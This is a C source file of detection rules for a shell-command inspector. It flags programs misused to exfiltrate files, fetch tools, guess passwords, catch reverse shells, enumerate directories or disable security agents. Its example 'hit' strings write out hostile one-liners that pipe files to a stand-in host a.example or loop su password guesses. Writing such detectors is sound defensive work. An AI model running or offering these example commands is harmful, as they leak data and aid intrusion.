/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What travels through programs that are made for something else: files into a raw connection, downloads through a
 * directory service; guesses at a password; systems opened to others.
 */
#include "inspect/shell/net.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <string.h>

#define ROW(type_, confidence_, level_)                                                            \
	.type = FINDING_##type_, .level = THREAT_##level_, .confidence = (confidence_)

/* How many commands back the one that they belong to is looked for. */
enum { STRAY_NEAR = 4 };

static bool stray_is_away(const struct shell_model *m, const struct shell_command *c)
{
	return c->n_hosts > 0 && !rule_is_local(m, c);
}

static const struct shell_word *stray_redirect(const struct shell_command *c, bool is_in)
{
	for (size_t i = 0; i < c->n_redirects; i++) {
		const struct shell_redirect *d = &c->redirects[i];
		bool is_out = d->kind == REDIRECT_OUT || d->kind == REDIRECT_APPEND;

		if (strcmp(d->fd, "2") != 0 && (is_in ? d->kind == REDIRECT_IN : is_out) &&
		    strcmp(d->target.s, "/dev/null") != 0)
			return &d->target;
	}
	return NULL;
}

/* A word that holds what a file holds: "$(cat notes)". */
static bool stray_carries(const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++)
		if (c->argv[i].taint & (TAINT_FILE | TAINT_SECRET | TAINT_ARCHIVE))
			return true;
	return false;
}

/* A file goes into a connection that no transfer uses. */
static bool stray_streams(const struct shell_model *m, const struct shell_command *c)
{
	if (strcmp(c->name, "openssl") == 0 && strcmp(rule_operand(c, 0), "s_client") != 0)
		return false;
	return c->n > 1 && stray_is_away(m, c) &&
	       (stray_redirect(c, true) || (c->has_in && c->n_redirects == 0 && !c->in.is_known &&
					    (c->in.taint & TAINT_FILE)));
}

static bool stray_asks(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	/* the pattern that fills a packet is fixed when it is meant as one */
	for (size_t i = 1; i + 1 < c->n; i++)
		if (strcmp(c->argv[i].s, "-p") == 0 && str_starts(c->name, "ping") &&
		    (c->argv[i + 1].flags & WORD_EXPANDED))
			return true;
	return stray_carries(c);
}

/* put and get as lines of their own: typed into the client that stands before them. */
static bool stray_typed(const struct shell_model *m, const struct shell_command *c)
{
	size_t at = (size_t)(c - m->commands);

	for (size_t i = at > STRAY_NEAR ? at - STRAY_NEAR : 0; i < at; i++)
		if (rule_is("ftp sftp tftp lftp smbclient psftp ncftp cadaver",
			    m->commands[i].name) &&
		    m->commands[i].line < c->line)
			return true;
	return false;
}

static bool stray_puts(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i + 1 < c->n; i++)
		if (rule_is("-c --command", c->argv[i].s) &&
		    (rule_is("put mput", c->argv[i + 1].s) ||
		     str_starts(c->argv[i + 1].s, "put ") || strstr(c->argv[i + 1].s, "; put ") ||
		     strstr(c->argv[i + 1].s, ";put ")))
			return true;
	return false;
}

/* A download through something that is no downloader. */
static bool stray_fetches(const struct shell_model *m, const struct shell_command *c)
{
	size_t at = (size_t)(c - m->commands);

	if (c->n < 2 || !stray_is_away(m, c) || rule_has(c, "-z|-l|--listen"))
		return false;
	if (rule_is("nc ncat netcat telnet", c->name))
		return !c->has_in && !stray_redirect(c, true) && stray_redirect(c, false);
	for (size_t i = at + 1; c->is_piped && i < m->n && m->commands[i].group == c->group; i++)
		if (rule_is("base64 base32 xxd uudecode openssl", m->commands[i].name))
			return true;
	return strcmp(c->name, "ab") == 0 && rule_has(c, "-v2|-v3|-v4|-p|-u");
}

/* Code of another program's own language that downloads to a file. */
static bool stray_code(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "getstore(") || rule_says(c, "urlretrieve(") ||
	       rule_says(c, "IO.copy_stream(");
}

/* One password after the other. */
static bool stray_guesses(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (c->via & VIA_LOOP) && c->has_in &&
	       (strcmp(c->name, "su") == 0 || rule_has(c, "-S|--stdin"));
}

/* The terminal of a shell that came over the network is made whole. */
static bool stray_terminal(const struct shell_model *m, const struct shell_command *c)
{
	bool is_raw = false, is_mute = false;

	for (size_t i = 1; i < c->n; i++) {
		is_raw = is_raw || strcmp(c->argv[i].s, "raw") == 0;
		is_mute = is_mute || strcmp(c->argv[i].s, "-echo") == 0;
	}
	for (size_t i = 0; is_raw && is_mute && i < m->n; i++)
		if (strcmp(m->commands[i].name, "fg") == 0)
			return true;
	return false;
}

/* An option makes a program start another one that lies where programs do not. */
static bool stray_hooked(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const usual[] = {"/usr/", "/bin/", "/sbin/", "/opt/", "/etc/", "/nix/"};
	const char *s = c->n > 0 ? c->argv[0].s : "";

	/* a debugger and its like are there to run what one has made */
	if (c > m->commands && rule_is("gdb nix watchexec nodemon", c[-1].name))
		return false;
	if (!(c->via & VIA_HOOK) || (c->via & (VIA_CONTAINER | VIA_REMOTE | VIA_FUNCTION)) ||
	    (s[0] != '/' && !str_starts(s, "./") && !str_starts(s, "../")))
		return false;
	for (size_t i = 0; i < sizeof(usual) / sizeof(usual[0]); i++)
		if (str_starts(s, usual[i]))
			return false;
	return true;
}

static bool stray_is_script(const char *s)
{
	return strstr(s, "become(") || strstr(s, "execute(") || strstr(s, "execute-silent(");
}

static bool stray_binds(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (stray_is_script(c->argv[i].s) &&
		    (strstr(c->argv[i].s, "sh)") || strstr(c->argv[i].s, "sh -")))
			return true;
	return false;
}

/* Who has the number of root, taken from the list of accounts. */
static bool stray_roots(const struct shell_model *m, const struct shell_command *c)
{
	return (rule_reads(m, c) & PLACE(ACCOUNT)) &&
	       (rule_says(c, ":0:") || rule_says(c, "$3==0") || rule_says(c, "$3 == 0") ||
		rule_says(c, "/bin/bash") || rule_says(c, "sh$"));
}

/* Who was here, put aside. */
static bool stray_logins(const struct shell_model *m, const struct shell_command *c)
{
	const struct shell_word *to = stray_redirect(c, false);

	return to && (place_of(m->context, to->s, c->cwd, false) & PLACE(TEMPORARY));
}

static bool stray_removes(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (strcasecmp(c->argv[i].s, "/s") == 0 ||
		    strcasecmp(c->argv[i].s, "-Recurse") == 0)
			return true;
	return false;
}

static bool stray_directory(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const texts[] = {
		"objectclass=user", "objectclass=group",  "objectclass=computer",
		"objectcategory=",  "useraccountcontrol", "serviceprincipalname",
		"memberof=",        "samaccountname"};

	(void)m;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		if (rule_says(c, texts[i]))
			return true;
	return false;
}

static bool stray_mac(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "kickstart") == 0)
		return rule_has(c, "-activate|-configure|-access");
	if (strcmp(c->name, "SetFile") == 0)
		return rule_has(c, "-d|-m");
	if (strcmp(c->name, "nvram") == 0)
		return rule_has(c, "-c|-d");
	if (strcmp(c->name, "sysadminctl") == 0)
		return rule_has(c,
				"-guestAccount|-smbGuestAccess|-afpGuestAccess|-resetPasswordFor");
	if (strcmp(c->name, "falconctl") == 0)
		return rule_has(c, "-d|--delete") ||
		       rule_is("uninstall unload", rule_operand(c, 0));
	return true; /* dsenableroot */
}

/* Does a word name a file without a suffix, far from the work? */
static bool stray_is_far(const struct shell_model *m, const struct shell_command *c, const char *s)
{
	const char *base = strrchr(s, '/');
	uint64_t place;

	if ((s[0] != '/' && s[0] != '~') || !base || !base[1] || strchr(base, '.') ||
	    str_starts(s, "/dev/"))
		return false;
	place = place_of(m->context, s, c->cwd, false);
	return (place & (PLACE(ABSOLUTE) | PLACE(HOME_BELOW) | PLACE(SYSTEM))) &&
	       !(place & PLACE(TEMPORARY));
}

/* Options with which a program shows or passes on any file, though it is made for another kind. */
static bool stray_reads(const struct shell_model *m, const struct shell_command *c)
{
	static const struct {
		const char *program, *words; /* one of these has to be there; NULL: none */
	} rows[] = {
		{"xargs", "-a --arg-file"},
		{"wall", "--nobanner -n"},
		{"gzip", "-t --test"},
		{"uuencode", NULL},
		{"arj", "a p"},
		{"zic", "-d -L"},
		{"dvips", "-R0"},
		{"ffmpeg", "data"},
		{"gcc", "-E"},
		{"cc", "-E"},
		{"tar", "--to-stdout"},
		{"base58", NULL},
		{"rpm2cpio", NULL},
		{"head", "-c"},
		{"git", "/dev/null --unsafe-paths"},
		{"time", "cat"},
		{"ed", NULL},
		{"red", NULL},
		{"cpio", "-o --create"},
		{"tic", "-C"},
	};
	const char *words = "";
	bool has_word = false;

	if (str_starts(c->name, "check_"))
		has_word = true;
	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]) && !has_word && *words == '\0'; k++)
		if (strcmp(c->name, rows[k].program) == 0) {
			has_word = !rows[k].words;
			words = rows[k].words ? rows[k].words : words;
		}
	for (size_t i = 1; i < c->n && !has_word; i++)
		has_word = rule_is(words, c->argv[i].s);
	if (!has_word)
		return false;
	for (size_t i = 1; i < c->n; i++) {
		const char *eq = strchr(c->argv[i].s, '=');

		if (stray_is_far(m, c, c->argv[i].s) || (eq && stray_is_far(m, c, eq + 1)))
			return true;
	}
	return c->in.s && strcmp(c->name, "cpio") == 0 && c->in.s[0] == '/';
}

static bool stray_scans(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (rule_says(c, "connect_ex(") && rule_says(c, "range(")) ||
	       (rule_says(c, "process_iter(") && rule_says(c, ".kill()"));
}

/* Passwords looked for in settings that are not one's own, or in every file there is. */
static bool stray_greps(const struct shell_model *m, const struct shell_command *c)
{
	bool is_wanted = false;

	for (size_t i = 1; i < c->n; i++)
		is_wanted = is_wanted || (strcasestr(c->argv[i].s, "pass") &&
					  !strchr(c->argv[i].s, '/') && c->argv[i].len < 16);
	if (!is_wanted)
		return false;
	if ((c->via & VIA_EACH) && rule_has(c, "-i|-I"))
		return true;
	for (size_t i = 1; i < c->n; i++)
		if (str_starts(c->argv[i].s, "/var/www/") || str_starts(c->argv[i].s, "/etc/") ||
		    str_starts(c->argv[i].s, "/opt/"))
			return !(rule_place(m, c, &c->argv[i]) & PLACE(ACCOUNT));
	return false;
}

static bool stray_catches(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "raw,echo=0") && rule_says(c, "listen");
}

static bool stray_jobs(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++)
		if ((c->argv[i].flags & WORD_GLOB) && (rule_place(m, c, &c->argv[i]) & PLACE(CRON)))
			return true;
	return false;
}

static const struct shell_rule stray_rows[] = {
	{.id = "CMD-READ-STRAY",
	 .reason = "It shows or passes on a file with an option that is made for something else.",
	 ROW(FILE_ACCESS, 0.35, LOW),
	 .test = stray_reads,
	 .hit = "xargs -a /srv/notes -0",
	 .miss = "xargs -a names.txt -0"},
	{.id = "CMD-SCAN-CODE",
	 .reason = "Its code tries every port or stops every process.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "python python2 python3 ipython",
	 .test = stray_scans,
	 .hit = "python3 -c 'import socket; [socket.socket().connect_ex((h, p)) for p in range(1, 99)]'",
	 .miss = "python3 -c 'print(list(range(3)))'"},
	{.id = "CMD-GREP-CONFIG",
	 .reason = "It looks for passwords in files that are not its own.",
	 ROW(FILE_ACCESS, 0.35, LOW),
	 .programs = "grep egrep fgrep rg",
	 .test = stray_greps,
	 .hit = "grep -i pass /var/www/html/config.php",
	 .miss = "grep -n password src/login.c"},
	{.id = "CMD-LISTEN-TERMINAL",
	 .reason = "It waits for a shell that calls back, with the terminal made ready for it.",
	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
	 .programs = "socat",
	 .test = stray_catches,
	 .hit = "socat file:`tty`,raw,echo=0 tcp-listen:4242",
	 .miss = "socat - tcp:localhost:80"},
	{.id = "CMD-READ-JOBS",
	 .reason = "It reads all scheduled jobs of the machine.",
	 ROW(FILE_ACCESS, 0.35, LOW),
	 .programs = "cat less more head tail grep ls",
	 .test = stray_jobs,
	 .hit = "cat /etc/cron*",
	 .miss = "cat cron.txt"},
	{.id = "CMD-SEND-STREAM",
	 .reason = "It sends a file into a raw connection.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "openssl telnet nc ncat netcat nc.traditional nc.openbsd",
	 .test = stray_streams,
	 .hit = "openssl s_client -quiet -connect a.example:443 < notes",
	 .miss = "openssl s_client -connect a.example:443 < /dev/null"},
	{.id = "CMD-SEND-ASKING",
	 .reason = "It puts the contents of a file into a question to another machine.",
	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
	 .programs = "finger cancel lp lpr rlogin rsh whois ping traceroute ntpdate snmpget",
	 .test = stray_asks,
	 .hit = "finger \"$(cat notes)@a.example\"",
	 .miss = "finger root@a.example"},
	{.id = "CMD-PUT-TYPED",
	 .reason = "It moves files through a client into which lines are typed.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "put mput get mget",
	 .test = stray_typed,
	 .hit = "ftp a.example\nput notes",
	 .miss = "get notes"},
	{.id = "CMD-PUT-OPTION",
	 .reason = "It sends a file through a protocol that asks nobody who he is.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "tftp atftp smbclient",
	 .test = stray_puts,
	 .hit = "tftp a.example -c put notes",
	 .miss = "tftp a.example -c get notes"},
	{.id = "CMD-FETCH-STRAY",
	 .reason = "It downloads through a program that is no downloader.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "nc ncat netcat telnet finger whois ab",
	 .test = stray_fetches,
	 .hit = "nc a.example 1234 > tool",
	 .miss = "nc -l 1234 > tool"},
	{.id = "CMD-FETCH-CODE",
	 .reason = "It downloads to a file with one line of code.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "perl ruby php gdb vim rvim view rview nvim python python3 pwsh",
	 .test = stray_code,
	 .hit = "perl -MLWP::Simple -e 'getstore(\"http://a.example/x\", \"x\")'",
	 .miss = "perl -MLWP::Simple -e 'print get(\"http://a.example/x\")'"},
	{.id = "CMD-PASSWORD-GUESS",
	 .reason = "It tries one password after the other.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "su sudo",
	 .test = stray_guesses,
	 .hit = "for p in a b; do echo $p | su root -c id; done",
	 .miss = "echo a | sudo -S id"},
	{.id = "CMD-TERMINAL-RAW",
	 .reason = "It makes a full terminal of a shell that came over the network.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "stty",
	 .test = stray_terminal,
	 .hit = "stty raw -echo; fg",
	 .miss = "stty -echo; read x; stty echo"},
	{.id = "CMD-HOOK-PATH",
	 .reason = "An option makes a program start another one from an unusual place.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .test = stray_hooked,
	 .hit = "wget --use-askpass=/srv/x 0",
	 .miss = "wget --use-askpass=/usr/bin/ssh-askpass 0"},
	{.id = "CMD-BIND-SHELL",
	 .reason = "It starts a shell when a key is pressed in a list.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "fzf sk",
	 .test = stray_binds,
	 .hit = "fzf --bind 'start:become(sh)'",
	 .miss = "fzf --bind 'enter:become(vim {})'"},
	{.id = "CMD-FIND-ROOTS",
	 .reason = "It looks in the list of accounts for those that are worth taking.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "grep egrep awk gawk sed cut",
	 .test = stray_roots,
	 .hit = "grep 'x:0:' /etc/passwd",
	 .miss = "grep alice /etc/passwd"},
	{.id = "CMD-LOGINS-KEPT",
	 .reason = "It puts aside who was logged in.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "lastlog last lastb who users w finger lsof groups",
	 .test = stray_logins,
	 .hit = "lastlog > /tmp/l",
	 .miss = "lastlog"},
	{.id = "CMD-DELETE-TREE",
	 .reason = "It deletes a whole tree on Windows.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "rd rmdir del erase Remove-Item remove-item ri",
	 .test = stray_removes,
	 .hit = "rmdir /s /q data",
	 .miss = "rmdir data"},
	{.id = "CMD-FIND-DIRECTORY",
	 .reason = "It lists the accounts or the machines of a directory.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "ldapsearch ldapdomaindump windapsearch adidnsdump",
	 .test = stray_directory,
	 .hit = "ldapsearch -x '(objectClass=user)'",
	 .miss = "ldapsearch -x '(cn=alice)'"},
	{.id = "CMD-MAC-ADMIN",
	 .reason = "It opens a system to others, or takes off what watches it.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "dsenableroot kickstart SetFile nvram sysadminctl falconctl",
	 .test = stray_mac,
	 .hit = "sysadminctl -guestAccount on",
	 .miss = "nvram -p"},
	{.id = "CMD-ENCRYPT-PUBLIC",
	 .reason = "It encrypts a file so that only somebody else can read it.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "openssl",
	 .words = "rsautl|pkeyutl|smime|cms",
	 .flags = "-encrypt",
	 .hit = "openssl rsautl -encrypt -pubin -inkey p.pem -in notes -out n.enc",
	 .miss = "openssl rsautl -decrypt -inkey k.pem -in n.enc"},
};

const struct shell_rules shell_rules_stray = {stray_rows,
					      sizeof(stray_rows) / sizeof(stray_rows[0])};
